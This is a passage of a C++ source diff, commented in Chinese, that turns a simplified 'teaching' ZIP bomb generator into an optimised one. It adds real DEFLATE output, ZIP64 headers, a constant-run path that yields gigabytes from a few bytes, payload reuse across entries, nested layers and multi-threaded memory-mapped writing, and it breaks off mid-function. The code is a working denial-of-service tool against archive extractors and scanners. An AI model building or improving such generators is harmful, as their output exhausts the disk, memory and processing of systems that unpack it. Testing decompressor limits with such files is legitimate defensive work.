@@ -10,8 +10,19 @@
  */
 
 #include "zipbomb.h"
+#include "deflate.h"
+#include "crc32.h"
+#include "zip_format.h"
+#include "central_directory.h"
+#include "archive_layout.h"
+#include "output_sink.h"
+#include "async_sink.h"
+#include "mmap_sink.h"
+#include "thread_pool.h"
+#include "nested_sink.h"
+#include "pattern_source.h"
+#include "perf_stats.h"
 #include <iostream>
-#include <fstream>
 #include <vector>
 #include <string>
 #include <memory>
@@ -20,6 +31,14 @@
 #include <cstdlib>
 #include <algorithm>
 #include <iomanip>
+#include <map>
+#include <utility>
+#include <tuple>
+#include <new>
+#include <thread>
+#include <atomic>
+#include <functional>
+#include <unistd.h>
 
 // 简化的ZIP文件结构实现（教学版本）
 namespace ZipBombGenerator {
@@ -28,348 +47,1138 @@ namespace ZipBombGenerator {
 // 全局变量和配置
 // ============================================================================
 
-static zipbomb_config_t g_config = {
-    DEFAULT_TARGET_SIZE_MB,      // 10GB目标大小
+/** 编译期默认配置，新建的上下文从它开始 */
+const zipbomb_config_t DEFAULT_CONFIG = {
+    DEFAULT_TARGET_SIZE_BYTES,   // 10GB目标大小
     DEFAULT_COMPRESSION_LEVEL,   // 压缩级别6
     DEFAULT_PATTERN_SIZE,        // 1MB模式大小
     'A',                         // 默认重复字符
     false,                       // 不使用嵌套压缩
-    1                            // 嵌套层数
+    1,                           // 嵌套层数
+    DEFAULT_MAX_ENTRIES,         // 条目数上限
+    ZIPBOMB_OUTPUT_SYNC,         // 同步输出
+    0,                           // 默认I/O队列深度
+    false,                       // 不使用O_DIRECT
+    0,                           // 使用全部硬件线程
+    1,                           // 所有条目内容相同
+    ZIPBOMB_PATTERN_MARKED,      // 带"ZIP"标记的重复字符
+    0,                           // 默认周期
+    0,                           // 伪随机种子
+    0,                           // 不分块压缩
+    false                        // 本地头直接给出CRC和大小
 };
 
-static bool g_verbose_logging = false;
-static std::chrono::steady_clock::time_point g_start_time;
-static std::chrono::steady_clock::time_point g_end_time;
-static double g_compression_ratio = 0.0;
+/**
+ * 生成上下文：日志开关、配置和最近一次生成的统计
+ *
+ * 生成过程只读写自己的上下文，不同上下文可以在不同线程上同时生成；
+ * 不带上下文的旧C接口共用g_default_context
+ */
+struct GenerationContext {
+    zipbomb_config_t config;
+    bool verbose = false;
+    bool log_to_stderr = false;      // 归档写到标准输出时日志改写到标准错误
+    std::chrono::steady_clock::time_point start_time;
+    std::chrono::steady_clock::time_point end_time;
+    double compression_ratio = 0.0;
+    uint64_t archive_size = 0;
+    zipbomb_io_stats_t io_stats = {};
+    PhaseCounters counters;          // 最近一次生成的分阶段计数
+
+    explicit GenerationContext(const zipbomb_config_t& initial) : config(initial) {}
+};
+
+/** 旧接口的全局上下文，其config即get_default_config()返回的配置 */
+static GenerationContext g_default_context(DEFAULT_CONFIG);
+
+/** 内存映射模式下每个线程至少写入的字节数 */
+constexpr uint64_t MIN_BYTES_PER_WORKER = 4 * 1024 * 1024;
+
+/** 表示标准输出的文件名 */
+const char* const STDOUT_FILENAME = "-";
+
+/** 并行生成时每个线程对应的重排窗口槽位数 */
+constexpr unsigned REORDER_SLOTS_PER_THREAD = 4;
+
+/** 只使用一次的条目超过该大小时边压缩边写出，不超过时并行压缩后按序写出 */
+constexpr uint64_t STREAM_ENTRY_SIZE = 8 * 1024 * 1024;
+
+/** 每层嵌套包装在内层压缩数据之外增加的最多字节数（头、描述符、中央目录和结束记录） */
+constexpr uint64_t NESTED_LEVEL_OVERHEAD = 512;
 
 // ============================================================================
-// ZIP文件格式结构体 (简化版本)
+// 工具函数
 // ============================================================================
 
-#pragma pack(push, 1)  // 确保结构体紧密打包
-
-/** ZIP文件本地文件头 */
-struct ZipLocalFileHeader {
-    uint32_t signature;          // 0x04034b50
-    uint16_t version;            // 版本
-    uint16_t flags;              // 通用标志
-    uint16_t compression;        // 压缩方法
-    uint16_t mod_time;           // 修改时间
-    uint16_t mod_date;           // 修改日期
-    uint32_t crc32;              // CRC-32
-    uint32_t compressed_size;    // 压缩后大小
-    uint32_t uncompressed_size;  // 原始大小
-    uint16_t filename_length;    // 文件名长度
-    uint16_t extra_length;       // 额外字段长度
-};
+/**
+ * 把压缩输出收集到内存缓冲区的适配器
+ */
+class VectorSink : public ByteSink {
+public:
+    explicit VectorSink(std::vector<uint8_t>& buffer) : buffer_(buffer) {}
+
+    bool write(const uint8_t* data, size_t len) override {
+        buffer_.insert(buffer_.end(), data, data + len);
+        return true;
+    }
 
-/** ZIP中央目录文件头 */
-struct ZipCentralDirHeader {
-    uint32_t signature;          // 0x02014b50
-    uint16_t version_made;       // 制作版本
-    uint16_t version_needed;     // 需要版本
-    uint16_t flags;              // 通用标志
-    uint16_t compression;        // 压缩方法
-    uint16_t mod_time;           // 修改时间
-    uint16_t mod_date;           // 修改日期
-    uint32_t crc32;              // CRC-32
-    uint32_t compressed_size;    // 压缩后大小
-    uint32_t uncompressed_size;  // 原始大小
-    uint16_t filename_length;    // 文件名长度
-    uint16_t extra_length;       // 额外字段长度
-    uint16_t comment_length;     // 注释长度
-    uint16_t disk_start;         // 开始磁盘号
-    uint16_t internal_attr;      // 内部属性
-    uint32_t external_attr;      // 外部属性
-    uint32_t local_header_offset; // 本地头偏移
+private:
+    std::vector<uint8_t>& buffer_;
 };
 
-/** ZIP文件结束记录 */
-struct ZipEndOfCentralDir {
-    uint32_t signature;          // 0x06054b50
-    uint16_t disk_number;        // 磁盘号
-    uint16_t disk_start;         // 中央目录开始磁盘
-    uint16_t entries_on_disk;    // 本磁盘条目数
-    uint16_t total_entries;      // 总条目数
-    uint32_t central_dir_size;   // 中央目录大小
-    uint32_t central_dir_offset; // 中央目录偏移
-    uint16_t comment_length;     // 注释长度
+/**
+ * 丢弃压缩输出的适配器，只需要CRC和压缩后大小时使用
+ */
+class DiscardSink : public ByteSink {
+public:
+    bool write(const uint8_t*, size_t) override { return true; }
 };
 
-#pragma pack(pop)
+/**
+ * 日志函数
+ */
+void log_message(const GenerationContext& ctx, const std::string& message) {
+    if (ctx.verbose) {
+        (ctx.log_to_stderr ? std::cerr : std::cout) << "[ZIP炸弹生成器] " << message << std::endl;
+    }
+}
 
 // ============================================================================
-// 工具函数
+// 条目数据缓存
 // ============================================================================
 
 /**
- * 计算CRC32校验和
+ * 压缩后的条目数据，内容相同的条目共享同一份
+ *
+ * 边压缩边写出的条目只记录CRC和大小，compressed为空
  */
-uint32_t calculate_crc32(const std::vector<uint8_t>& data) {
-    // 简化的CRC32实现（教学版本）
-    // 实际应用中应使用zlib的crc32函数
-    uint32_t crc = 0xFFFFFFFF;
-    static const uint32_t crc_table[256] = {
-        // CRC32查找表（部分，完整版本需要256个条目）
-        0x00000000, 0x77073096, 0xEE0E612C, 0x990951BA,
-        0x076DC419, 0x706AF48F, 0xE963A535, 0x9E6495A3
-        // ... 更多条目
-    };
+struct EntryPayload {
+    std::vector<uint8_t> compressed;   // DEFLATE压缩结果
+    uint32_t crc32 = 0;                // 未压缩数据的CRC-32
+    uint64_t uncompressed_size = 0;    // 未压缩大小
+    uint64_t compressed_size = 0;      // 压缩后大小
+    BufferLease lease;                 // compressed计入缓冲区内存
+};
+
+/** 压缩和CRC每次从模式源读取的字节数 */
+constexpr size_t PATTERN_CHUNK_SIZE = 64 * 1024;
+
+/** 分块压缩时作为预设字典的前文长度（DEFLATE窗口大小） */
+constexpr uint64_t DICTIONARY_SIZE = 32 * 1024;
 
-    for (uint8_t byte : data) {
-        crc = crc_table[(crc ^ byte) & 0xFF] ^ (crc >> 8);
+/**
+ * 逐块读取模式源的[start, end)，计算CRC并送入压缩器
+ *
+ * 模式生成、CRC和压缩分别计时；压缩器的输出端失败时提前停止，由finish()报告
+ *
+ * @return 这段内容的CRC-32
+ */
+uint32_t deflate_range(const PatternSource& source, uint64_t start, uint64_t end, DeflateEncoder& encoder,
+                       PhaseCounters& counters) {
+    std::vector<uint8_t> chunk(static_cast<size_t>(std::min<uint64_t>(PATTERN_CHUNK_SIZE, end - start)));
+    const BufferLease lease(counters, chunk.size());
+    uint32_t crc = 0;
+    PhaseTimer timer;
+    for (uint64_t pos = start; pos < end; pos += chunk.size()) {
+        const size_t n = static_cast<size_t>(std::min<uint64_t>(chunk.size(), end - pos));
+        source.fill(pos, chunk.data(), n);
+        counters.add(ZIPBOMB_PHASE_PATTERN, timer.lap(), 0, n);
+        crc = crc32_update(crc, chunk.data(), n);
+        counters.add(ZIPBOMB_PHASE_CRC, timer.lap(), n, 0);
+        const bool written = encoder.write(chunk.data(), n);
+        counters.add(ZIPBOMB_PHASE_COMPRESS, timer.lap(), n, 0);
+        if (!written) break;
     }
-    return crc ^ 0xFFFFFFFF;
+    return crc;
 }
 
 /**
- * 简单的压缩函数（模拟压缩效果）
+ * 逐块读取模式源，压缩并计算CRC
+ *
+ * 内容不在内存中展开，只占用一个块缓冲区和压缩器状态；压缩结果增量交给out
+ *
+ * @param level 压缩级别(1-9)
+ * @param payload 填入CRC和大小
+ * @return out全部写入成功时返回true
  */
-std::vector<uint8_t> simple_compress(const std::vector<uint8_t>& input) {
-    if (input.empty()) return {};
+bool deflate_payload(const PatternSource& source, int level, ByteSink& out, EntryPayload& payload,
+                     PhaseCounters& counters) {
+    payload.uncompressed_size = source.size();
+
+    DeflateEncoder encoder(out, level);
+    payload.crc32 = deflate_range(source, 0, source.size(), encoder, counters);
+    PhaseTimer timer;
+    const bool written = encoder.finish();
+    payload.compressed_size = encoder.total_out();
+    counters.add(ZIPBOMB_PHASE_COMPRESS, timer.lap(), 0, payload.compressed_size);
+
+    return written;
+}
 
+/**
+ * 分块压缩的一段结果
+ */
+struct CompressedChunk {
     std::vector<uint8_t> compressed;
+    uint32_t crc32 = 0;
+    uint64_t length = 0;
+    BufferLease lease;
+};
 
-    // 检测重复模式并进行简单的行程编码
-    size_t i = 0;
-    while (i < input.size()) {
-        uint8_t current_byte = input[i];
-        size_t count = 1;
-
-        // 计算连续相同字节的数量
-        while (i + count < input.size() &&
-               input[i + count] == current_byte &&
-               count < 255) {
-            count++;
-        }
+/**
+ * 压缩模式源中[start, start + length)这一段
+ *
+ * 前面的DICTIONARY_SIZE字节作为预设字典，匹配可以跨越段边界；
+ * 除最后一段外以同步刷新结束，各段输出首尾相接即是一个完整的DEFLATE流
+ */
+CompressedChunk compress_chunk(const PatternSource& source, int level, uint64_t start, uint64_t length,
+                               bool last, PhaseCounters& counters) {
+    CompressedChunk chunk;
+    chunk.length = length;
+
+    VectorSink sink(chunk.compressed);
+    DeflateEncoder encoder(sink, level);
+    if (start > 0) {
+        std::vector<uint8_t> dictionary(static_cast<size_t>(std::min(start, DICTIONARY_SIZE)));
+        PhaseTimer timer;
+        source.fill(start - dictionary.size(), dictionary.data(), dictionary.size());
+        counters.add(ZIPBOMB_PHASE_PATTERN, timer.lap(), 0, dictionary.size());
+        encoder.set_dictionary(dictionary.data(), dictionary.size());
+        counters.add(ZIPBOMB_PHASE_COMPRESS, timer.lap(), 0, 0);
+    }
+    chunk.crc32 = deflate_range(source, start, start + length, encoder, counters);
+    PhaseTimer timer;
+    encoder.finish(last);
+    counters.add(ZIPBOMB_PHASE_COMPRESS, timer.lap(), 0, chunk.compressed.size());
+    chunk.lease = BufferLease(counters, chunk.compressed.capacity());
+    return chunk;
+}
 
-        // 如果重复次数大于3，使用压缩
-        if (count > 3) {
-            compressed.push_back(0xFF);  // 压缩标记
-            compressed.push_back(static_cast<uint8_t>(count));
-            compressed.push_back(current_byte);
-        } else {
-            // 直接存储
-            for (size_t j = 0; j < count; j++) {
-                compressed.push_back(current_byte);
-            }
+/**
+ * 分块并行压缩一个条目（pigz的方式）
+ *
+ * 各段由线程池独立压缩，经重排缓冲区按顺序交给out，CRC用crc32_combine合并；
+ * 在途的段最多为线程数的REORDER_SLOTS_PER_THREAD倍，内存占用与条目大小无关。
+ * 输出只由chunk_size决定，与线程数无关，规划和生成的结果因此一致
+ *
+ * @param chunk_size 每段的未压缩字节数
+ * @param threads 工作线程数
+ * @return out全部写入成功时返回true
+ */
+bool deflate_payload_chunked(const PatternSource& source, int level, uint64_t chunk_size, unsigned threads,
+                             ByteSink& out, EntryPayload& payload, PhaseCounters& counters) {
+    using ChunkPtr = std::unique_ptr<CompressedChunk>;
+
+    payload.uncompressed_size = source.size();
+
+    const uint64_t chunks = (source.size() + chunk_size - 1) / chunk_size;
+    const uint64_t window = static_cast<uint64_t>(threads) * REORDER_SLOTS_PER_THREAD;
+    ReorderBuffer<ChunkPtr> reorder(static_cast<size_t>(window));
+    ThreadPool pool(threads);   // 在reorder之后构造，先于它析构
+
+    uint64_t next_submit = 0;
+    for (uint64_t i = 0; i < chunks; i++) {
+        while (next_submit < chunks && next_submit < i + window) {
+            const uint64_t index = next_submit++;
+            pool.submit([&source, &reorder, &counters, level, chunk_size, chunks, index] {
+                const uint64_t start = index * chunk_size;
+                ChunkPtr chunk;
+                try {
+                    chunk.reset(new CompressedChunk(compress_chunk(
+                        source, level, start, std::min(chunk_size, source.size() - start), index == chunks - 1,
+                        counters)));
+                } catch (const std::bad_alloc&) {
+                    // 空结果由拼接方报告为内存不足
+                }
+                reorder.put(index, std::move(chunk));
+            });
         }
 
-        i += count;
+        const ChunkPtr chunk = reorder.take();
+        if (!chunk) throw std::bad_alloc();
+        PhaseTimer timer;
+        payload.crc32 = crc32_combine(payload.crc32, chunk->crc32, chunk->length);
+        counters.add(ZIPBOMB_PHASE_CRC, timer.lap(), 0, 0);
+        payload.compressed_size += chunk->compressed.size();
+        if (!out.write(chunk->compressed.data(), chunk->compressed.size())) return false;
     }
 
-    return compressed;
+    return true;
 }
 
 /**
- * 生成重复数据模式
+ * 常量内容直接生成DEFLATE流，CRC由单字节的CRC组合得出
+ *
+ * 不读取也不扫描内容，耗时只与压缩后大小有关
+ *
+ * @return out全部写入成功时返回true
  */
-std::vector<uint8_t> generate_pattern_data(size_t size, char pattern_char) {
-    std::vector<uint8_t> data(size, static_cast<uint8_t>(pattern_char));
+bool deflate_constant(uint8_t byte, uint64_t size, ByteSink& out, EntryPayload& payload,
+                      PhaseCounters& counters) {
+    payload.uncompressed_size = size;
+    PhaseTimer timer;
+    payload.crc32 = crc32_repeat(crc32_update(0, &byte, 1), 1, size);
+    counters.add(ZIPBOMB_PHASE_CRC, timer.lap(), size, 0);
+    payload.compressed_size = deflate_constant_run_size(byte, size);
+    const bool written = deflate_constant_run(out, byte, size);
+    counters.add(ZIPBOMB_PHASE_COMPRESS, timer.lap(), size, payload.compressed_size);
+    return written;
+}
 
-    // 添加一些变化以避免过于明显的模式
-    for (size_t i = 0; i < size; i += 1024) {
-        if (i + 3 < size) {
-            data[i] = 'Z';
-            data[i+1] = 'I';
-            data[i+2] = 'P';
-        }
-    }
+/** 第variant份内容是否走常量快速路径 */
+inline bool constant_variant(const zipbomb_config_t& config, uint64_t variant) {
+    return config.pattern_kind == ZIPBOMB_PATTERN_CONSTANT && variant == 0;
+}
 
-    return data;
+/**
+ * 生成并压缩第variant份条目内容，压缩结果增量交给out
+ *
+ * @param payload 填入CRC和大小，compressed不变
+ * @param counters 累计各阶段耗时
+ * @param threads 分块压缩时使用的线程数；多份内容本身已并行生成时为1
+ * @return out全部写入成功时返回true
+ */
+bool deflate_variant(const zipbomb_config_t& config, uint64_t entry_size, uint64_t variant, ByteSink& out,
+                     EntryPayload& payload, PhaseCounters& counters, unsigned threads = 1) {
+    if (constant_variant(config, variant)) {
+        return deflate_constant(static_cast<uint8_t>(config.pattern_char), entry_size, out, payload, counters);
+    }
+    const std::unique_ptr<PatternSource> source = make_pattern_source(config, entry_size, variant);
+    const uint64_t chunk_size = static_cast<uint64_t>(config.deflate_chunk_size);
+    if (chunk_size > 0 && entry_size > chunk_size) {
+        return deflate_payload_chunked(*source, config.compression_level, chunk_size, threads, out, payload,
+                                       counters);
+    }
+    return deflate_payload(*source, config.compression_level, out, payload, counters);
 }
 
 /**
- * 日志函数
+ * 生成并压缩第variant份条目内容，压缩结果保存在内存中供多个条目复用
+ *
+ * @param counters 累计各阶段耗时，压缩结果的内存也计入其中
+ * @param threads 分块压缩时使用的线程数；多份内容本身已并行生成时为1
  */
-void log_message(const std::string& message) {
-    if (g_verbose_logging) {
-        std::cout << "[ZIP炸弹生成器] " << message << std::endl;
+EntryPayload compress_variant(const zipbomb_config_t& config, uint64_t entry_size, uint64_t variant,
+                              PhaseCounters& counters, unsigned threads = 1) {
+    EntryPayload payload;
+    if (constant_variant(config, variant)) {
+        payload.compressed.reserve(static_cast<size_t>(
+            deflate_constant_run_size(static_cast<uint8_t>(config.pattern_char), entry_size)));
     }
+    VectorSink sink(payload.compressed);
+    deflate_variant(config, entry_size, variant, sink, payload, counters, threads);
+    payload.compressed.shrink_to_fit();
+    payload.lease = BufferLease(counters, payload.compressed.size());
+    return payload;
 }
 
+/**
+ * 条目数据缓存
+ *
+ * 每种不同的模式只生成、压缩和计算CRC一次，之后所有使用该模式的
+ * 条目都直接引用缓存中的压缩结果
+ */
+class EntryPayloadCache {
+public:
+    /**
+     * @param threads 分块压缩时使用的线程数
+     * @param counters 首次压缩时累计各阶段耗时
+     */
+    const EntryPayload& get(const zipbomb_config_t& config, uint64_t size, unsigned threads,
+                            PhaseCounters& counters) {
+        auto key = std::make_tuple(config.compression_level, config.pattern_kind, config.pattern_char,
+                                   config.pattern_period, config.pattern_seed, config.deflate_chunk_size, size);
+        auto it = entries_.find(key);
+        if (it == entries_.end()) {
+            it = entries_.emplace(key, compress_variant(config, size, 0, counters, threads)).first;
+        }
+        return it->second;
+    }
+
+    size_t size() const { return entries_.size(); }
+
+private:
+    std::map<std::tuple<int, int, char, int64_t, uint64_t, int64_t, uint64_t>, EntryPayload> entries_;
+};
+
 // ============================================================================
 // ZIP文件生成核心函数
 // ============================================================================
 
+/** 本地头 + 文件名 + ZIP64扩展字段的最大长度 */
+constexpr size_t MAX_LOCAL_HEADER_LENGTH = sizeof(ZipLocalFileHeader) + MAX_FILENAME_LENGTH +
+                                           sizeof(ZipExtraFieldHeader) + 2 * sizeof(uint64_t);
+
+/** 条目大小超出32位时本地头带ZIP64扩展字段 */
+inline bool payload_zip64(const EntryPayload& payload) {
+    return payload.uncompressed_size >= ZIP64_LIMIT_32 || payload.compressed_size >= ZIP64_LIMIT_32;
+}
+
 /**
- * 创建ZIP文件的本地文件条目
+ * 构造本地文件头、文件名和可能的ZIP64扩展字段
+ *
+ * @param out 输出缓冲区，至少MAX_LOCAL_HEADER_LENGTH字节
+ * @param data_descriptor 为true时置通用标志第3位，CRC和大小留空，由数据描述符给出
+ * @return 写入的字节数
  */
-bool write_zip_file_entry(std::ofstream& file,
-                         const std::string& filename,
-                         const std::vector<uint8_t>& data) {
+size_t build_local_header(uint8_t* out,
+                          const char* filename,
+                          size_t filename_length,
+                          const EntryPayload& payload,
+                          bool data_descriptor) {
 
-    std::vector<uint8_t> compressed_data = simple_compress(data);
-    uint32_t crc = calculate_crc32(data);
+    const uint64_t compressed_size = payload.compressed_size;
+    const bool zip64 = payload_zip64(payload);
 
-    // 写入本地文件头
     ZipLocalFileHeader header = {};
-    header.signature = 0x04034b50;
-    header.version = 20;
-    header.flags = 0;
-    header.compression = (compressed_data.size() < data.size()) ? 8 : 0; // 8=deflate, 0=store
+    header.signature = ZIP_LOCAL_HEADER_SIG;
+    header.version = zip64 ? ZIP_VERSION_ZIP64 : ZIP_VERSION_DEFAULT;
+    header.flags = data_descriptor ? ZIP_FLAG_DATA_DESCRIPTOR : 0;
+    header.compression = 8;  // 8=deflate
     header.mod_time = 0;
     header.mod_date = 0;
-    header.crc32 = crc;
-    header.compressed_size = static_cast<uint32_t>(compressed_data.size());
-    header.uncompressed_size = static_cast<uint32_t>(data.size());
-    header.filename_length = static_cast<uint16_t>(filename.length());
-    header.extra_length = 0;
+    header.crc32 = data_descriptor ? 0 : payload.crc32;
+    header.compressed_size = zip64 ? ZIP64_LIMIT_32 : data_descriptor ? 0 : static_cast<uint32_t>(compressed_size);
+    header.uncompressed_size = zip64 ? ZIP64_LIMIT_32 : data_descriptor ? 0 : static_cast<uint32_t>(payload.uncompressed_size);
+    header.filename_length = static_cast<uint16_t>(filename_length);
+    header.extra_length = zip64 ? sizeof(ZipExtraFieldHeader) + 2 * sizeof(uint64_t) : 0;
+
+    size_t head_length = 0;
+    std::memcpy(out, &header, sizeof(header));
+    head_length += sizeof(header);
+    std::memcpy(out + head_length, filename, filename_length);
+    head_length += filename_length;
+
+    if (zip64) {
+        // 本地头的ZIP64字段必须同时包含原始大小和压缩后大小
+        ZipExtraFieldHeader extra = {ZIP64_EXTRA_ID, 2 * sizeof(uint64_t)};
+        uint64_t sizes[2] = {payload.uncompressed_size, compressed_size};
+        if (data_descriptor) sizes[0] = sizes[1] = 0;
+        std::memcpy(out + head_length, &extra, sizeof(extra));
+        head_length += sizeof(extra);
+        std::memcpy(out + head_length, sizes, sizeof(sizes));
+        head_length += sizeof(sizes);
+    }
+
+    return head_length;
+}
+
+/**
+ * 构造数据描述符，本地头带ZIP64扩展字段时使用64位大小
+ *
+ * @param out 输出缓冲区，至少sizeof(ZipDataDescriptor64)字节
+ * @return 写入的字节数
+ */
+size_t build_data_descriptor(uint8_t* out, const EntryPayload& payload) {
+    if (payload_zip64(payload)) {
+        ZipDataDescriptor64 descriptor = {};
+        descriptor.signature = ZIP_DATA_DESCRIPTOR_SIG;
+        descriptor.crc32 = payload.crc32;
+        descriptor.compressed_size = payload.compressed_size;
+        descriptor.uncompressed_size = payload.uncompressed_size;
+        std::memcpy(out, &descriptor, sizeof(descriptor));
+        return sizeof(descriptor);
+    }
 
-    file.write(reinterpret_cast<const char*>(&header), sizeof(header));
-    file.write(filename.c_str(), filename.length());
-    file.write(reinterpret_cast<const char*>(compressed_data.data()), compressed_data.size());
+    ZipDataDescriptor descriptor = {};
+    descriptor.signature = ZIP_DATA_DESCRIPTOR_SIG;
+    descriptor.crc32 = payload.crc32;
+    descriptor.compressed_size = static_cast<uint32_t>(payload.compressed_size);
+    descriptor.uncompressed_size = static_cast<uint32_t>(payload.uncompressed_size);
+    std::memcpy(out, &descriptor, sizeof(descriptor));
+    return sizeof(descriptor);
+}
 
-    return file.good();
+/**
+ * 创建ZIP文件的本地文件条目
+ *
+ * 文件头、文件名和可能的ZIP64扩展字段拼成一小段复制写入，
+ * 缓存的压缩数据按引用写入，由输出端聚集成一次系统调用；
+ * 流式输出时压缩数据之后再写数据描述符，输出端只需顺序写入
+ *
+ * @param data_descriptor 是否使用数据描述符
+ * @param by_reference payload在下一次flush前保持有效时为true
+ */
+bool write_zip_file_entry(OutputSink& out,
+                         const char* filename,
+                         size_t filename_length,
+                         const EntryPayload& payload,
+                         bool data_descriptor,
+                         bool by_reference = true) {
+    uint8_t head[MAX_LOCAL_HEADER_LENGTH];
+    const size_t head_length = build_local_header(head, filename, filename_length, payload, data_descriptor);
+    if (!out.write(head, head_length)) return false;
+    const bool written = by_reference ? out.write_ref(payload.compressed.data(), payload.compressed.size())
+                                      : out.write(payload.compressed.data(), payload.compressed.size());
+    if (!written || !data_descriptor) return written;
+
+    uint8_t descriptor[sizeof(ZipDataDescriptor64)];
+    return out.write(descriptor, build_data_descriptor(descriptor, payload));
 }
 
 /**
- * 创建中央目录
+ * 边压缩边写出只使用一次的条目，压缩结果不在内存中保留
+ *
+ * 使用数据描述符时本地头的CRC和大小留空，压缩器输出直接交给输出端，最后写数据描述符；
+ * 本地头是否带ZIP64字段只能按原始大小决定，压缩后反而超出32位时报告压缩失败。
+ * 不使用数据描述符时先压缩一遍只求CRC和大小，写出本地头后再压缩一遍写出
+ *
+ * @param variant 条目内容的序号
+ * @param threads 分块压缩时使用的线程数
+ * @param payload 输出条目的CRC和大小，compressed为空
+ * @return 成功返回0，失败返回错误代码
  */
-bool write_central_directory(std::ofstream& file,
-                            const std::vector<std::string>& filenames,
-                            const std::vector<uint32_t>& file_offsets,
-                            const std::vector<uint32_t>& compressed_sizes,
-                            const std::vector<uint32_t>& uncompressed_sizes,
-                            const std::vector<uint32_t>& crcs) {
-
-    uint32_t central_dir_start = static_cast<uint32_t>(file.tellp());
-
-    // 写入每个文件的中央目录条目
-    for (size_t i = 0; i < filenames.size(); i++) {
-        ZipCentralDirHeader central_header = {};
-        central_header.signature = 0x02014b50;
-        central_header.version_made = 20;
-        central_header.version_needed = 20;
-        central_header.flags = 0;
-        central_header.compression = (compressed_sizes[i] < uncompressed_sizes[i]) ? 8 : 0;
-        central_header.mod_time = 0;
-        central_header.mod_date = 0;
-        central_header.crc32 = crcs[i];
-        central_header.compressed_size = compressed_sizes[i];
-        central_header.uncompressed_size = uncompressed_sizes[i];
-        central_header.filename_length = static_cast<uint16_t>(filenames[i].length());
-        central_header.extra_length = 0;
-        central_header.comment_length = 0;
-        central_header.disk_start = 0;
-        central_header.internal_attr = 0;
-        central_header.external_attr = 0;
-        central_header.local_header_offset = file_offsets[i];
-
-        file.write(reinterpret_cast<const char*>(&central_header), sizeof(central_header));
-        file.write(filenames[i].c_str(), filenames[i].length());
-    }
-
-    uint32_t central_dir_size = static_cast<uint32_t>(file.tellp()) - central_dir_start;
-
-    // 写入目录结束记录
-    ZipEndOfCentralDir end_record = {};
-    end_record.signature = 0x06054b50;
-    end_record.disk_number = 0;
-    end_record.disk_start = 0;
-    end_record.entries_on_disk = static_cast<uint16_t>(filenames.size());
-    end_record.total_entries = static_cast<uint16_t>(filenames.size());
-    end_record.central_dir_size = central_dir_size;
-    end_record.central_dir_offset = central_dir_start;
-    end_record.comment_length = 0;
-
-    file.write(reinterpret_cast<const char*>(&end_record), sizeof(end_record));
-
-    return file.good();
+int write_streamed_entry(OutputSink& out, const char* filename, size_t filename_length,
+                         const zipbomb_config_t& config, uint64_t entry_size, uint64_t variant,
+                         unsigned threads, PhaseCounters& counters, EntryPayload& payload) {
+    const bool data_descriptor = config.use_data_descriptor;
+    if (data_descriptor) {
+        payload.uncompressed_size = entry_size;
+    } else {
+        DiscardSink discard;
+        deflate_variant(config, entry_size, variant, discard, payload, counters, threads);
+    }
+    const bool zip64 = payload_zip64(payload);
+
+    uint8_t head[MAX_LOCAL_HEADER_LENGTH];
+    const size_t head_length = build_local_header(head, filename, filename_length, payload, data_descriptor);
+    if (!out.write(head, head_length)) return ZIPBOMB_ERROR_WRITE_FAILED;
+
+    EntryPayload written;
+    if (!deflate_variant(config, entry_size, variant, out, written, counters, threads)) {
+        return ZIPBOMB_ERROR_WRITE_FAILED;
+    }
+    // 两遍压缩的结果不同或ZIP64判断与本地头不符时，本地头已经无法与数据对应
+    if (payload_zip64(written) != zip64 ||
+        (!data_descriptor && (written.crc32 != payload.crc32 || written.compressed_size != payload.compressed_size))) {
+        return ZIPBOMB_ERROR_COMPRESS_FAIL;
+    }
+    payload = std::move(written);
+    if (!data_descriptor) return ZIPBOMB_SUCCESS;
+
+    uint8_t descriptor[sizeof(ZipDataDescriptor64)];
+    return out.write(descriptor, build_data_descriptor(descriptor, payload)) ? ZIPBOMB_SUCCESS
+                                                                              : ZIPBOMB_ERROR_WRITE_FAILED;
 }
 
 /**
- * 核心ZIP炸弹生成函数
+ * 内存映射模式下并行写入所有条目
+ *
+ * 条目按序号平均分给工作线程，每个线程由布局直接算出自己区域的起始偏移，
+ * 互不重叠地写入映射区，每写完一个窗口就释放对应页面
  */
-int create_zipbomb_internal(const std::string& filename, const zipbomb_config_t& config) {
-    g_start_time = std::chrono::steady_clock::now();
+bool write_entries_mapped(MmapSink& out, const ArchiveLayout& layout, const EntryPayload& payload,
+                          unsigned threads) {
+    const uint64_t num_files = layout.num_entries();
+    const uint64_t compressed_size = payload.compressed_size;
+
+    uint64_t workers = threads;
+    workers = std::min<uint64_t>(workers, layout.central_dir_offset() / MIN_BYTES_PER_WORKER);
+    workers = std::min<uint64_t>(workers, num_files);
+    workers = std::max<uint64_t>(workers, 1);
+
+    auto fill = [&](uint64_t first, uint64_t last) {
+        uint8_t* base = out.data();
+        uint64_t offset = layout.entry_offset(first);
+        uint64_t window_start = offset;
+        char name_buffer[32];
+        for (uint64_t i = first; i < last; i++) {
+            const size_t name_length = format_entry_name(i, name_buffer);
+            offset += build_local_header(base + offset, name_buffer, name_length, payload,
+                                         layout.data_descriptor());
+            std::memcpy(base + offset, payload.compressed.data(), compressed_size);
+            offset += compressed_size;
+            if (layout.data_descriptor()) offset += build_data_descriptor(base + offset, payload);
+            if (offset - window_start >= MmapSink::RELEASE_WINDOW) {
+                // 窗口在页面边界处衔接，跨窗口的页面由下一个窗口释放
+                out.release(window_start, offset);
+                window_start = MmapSink::page_floor(offset);
+            }
+        }
+        out.release(window_start, offset);
+    };
 
-    log_message("开始生成ZIP炸弹: " + filename);
-    log_message("目标大小: " + std::to_string(config.target_size_mb) + " MB");
+    std::vector<std::thread> helpers;
+    const uint64_t per_worker = num_files / workers;
+    for (uint64_t w = 1; w < workers; w++) {
+        const uint64_t first = w * per_worker;
+        const uint64_t last = (w == workers - 1) ? num_files : first + per_worker;
+        helpers.emplace_back(fill, first, last);
+    }
+    fill(0, workers > 1 ? per_worker : num_files);
+    for (std::thread& helper : helpers) helper.join();
 
-    std::ofstream zip_file(filename, std::ios::binary);
-    if (!zip_file) {
-        error_log(ZIPBOMB_ERROR_FILE_CREATE, "无法创建输出文件");
-        return ZIPBOMB_ERROR_FILE_CREATE;
+    // 两个工作线程共有的边界页面要等双方都写完才能释放
+    for (uint64_t w = 1; w < workers; w++) {
+        const uint64_t boundary = layout.entry_offset(w * per_worker);
+        out.release(MmapSink::page_floor(boundary), MmapSink::page_ceil(boundary));
     }
 
-    // 生成大量重复数据
-    size_t pattern_size = static_cast<size_t>(config.pattern_size);
-    std::vector<uint8_t> pattern_data = generate_pattern_data(pattern_size, config.pattern_char);
